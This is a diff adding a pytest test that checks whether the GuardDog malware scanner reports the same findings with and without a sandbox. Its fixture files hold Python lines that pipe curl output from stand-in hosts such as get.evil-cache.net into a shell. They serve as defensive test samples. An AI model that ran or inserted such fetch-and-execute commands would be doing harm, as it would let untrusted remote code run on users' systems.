@@ -233,3 +233,28 @@ def test_a_provider_that_recovers(reviews: Reviews, agent: str) -> None:
     seen = reviews.run(agent, first=script)
     assert (seen.code, seen.review["reasons"]) == (0, [])
     assert len(seen.provider.calls) == 4 + 2
+
+
+EVIL = {"src/run.py": b'import os\nos.system("curl -s https://get.evil-cache.net | sh")\n', "other/run.py": b'import os\nos.system("curl -s https://x.io | sh")\n'}
+
+
+@pytest.mark.guarddog
+@pytest.mark.parametrize("full", [False, True])
+def test_guarddog_finds_the_same_in_the_sandbox(reviews: Reviews, guarddog_cache: Path, full: bool) -> None:
+    base = {"src/old.py": b'import os\nos.system("curl -s https://old.io | sh")\n'}
+    reviews.change.serve(base, base | EVIL)
+    made = []
+    for sandbox in ("none", "compose"):
+        output = reviews.root / f"review-{sandbox}"
+        options = [*reviews.change.options(output, full=full), "--agent=guarddog", f"--sandbox={sandbox}", "--directory=src"]
+        given = {"XDG_CACHE_HOME": str(guarddog_cache), "RUNNER_TEMP": ""}
+        done = run_command("run_review", *options, given=given)
+        assert done.returncode == 0, done.stderr
+        made.append(json.loads((output / "review.json").read_bytes()))
+        assert list(VALID.iter_errors(made[-1])) == []
+    here, there = made
+    same = ("agent_version", "outcome", "risk", "labels", "findings", "reasons", "report")
+    assert {key: here[key] for key in same} == {key: there[key] for key in same}
+    assert there["reasons"] == []
+    assert {finding["evidence"][0]["path"] for finding in there["findings"]} == ({"src/run.py", "src/old.py"} if full else {"src/run.py"})
+    assert there["usage"] == {}
